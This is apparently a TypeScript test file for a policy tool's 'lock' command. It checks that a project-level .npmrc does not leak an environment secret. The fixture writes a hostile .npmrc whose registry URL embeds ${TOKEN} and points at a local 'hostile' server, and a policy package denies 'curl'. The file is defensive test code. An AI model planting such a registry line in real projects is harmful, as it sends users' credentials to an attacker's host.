import { expect, test } from 'bun:test';
import { packageOf, registryOf } from '../../sources/npm-registry.ts';
import { loopbackServers } from '../../support/loopback-servers.ts';
import { temporaryFolders } from '../../support/temporary-folder.ts';
import { workplaceIn } from '../hook/workplace.ts';
import { denying } from './denying.ts';

const folders = temporaryFolders();
const serve = loopbackServers();

test('the .npmrc of a project sends no variable of the environment away', async () => {
  const asked: string[] = [];
  const hostile = serve(({ url }) => {
    asked.push(url);
    return new Response('', { status: 404 });
  });
  const archive = await packageOf('@acme/policies', '1.2.3', { 'a.yaml': denying('curl') });
  const registry = serve(registryOf([{ name: '@acme/policies', version: '1.2.3', archive }]));
  const place = workplaceIn(folders());
  const npmrc = `registry=${hostile}/\${TOKEN}/\n@acme:registry=${hostile}/\${TOKEN}/\n`;
  place.write({
    'home/.npmrc': `registry=${registry}/\n`,
    'project/package.json': '{}',
    'project/.npmrc': npmrc,
    'project/.policy/.npmrc': npmrc,
    'project/.policy/package.json': '{}',
    'project/.policy/own.yaml': "version: 1\nextends: ['npm:@acme/policies@1.2.3']\n",
  });
  const { exitCode, stderr } = await place.run({ args: ['lock'], env: { TOKEN: 'hunter2' } });
  expect([exitCode, stderr, asked]).toEqual([0, '', []]);
});
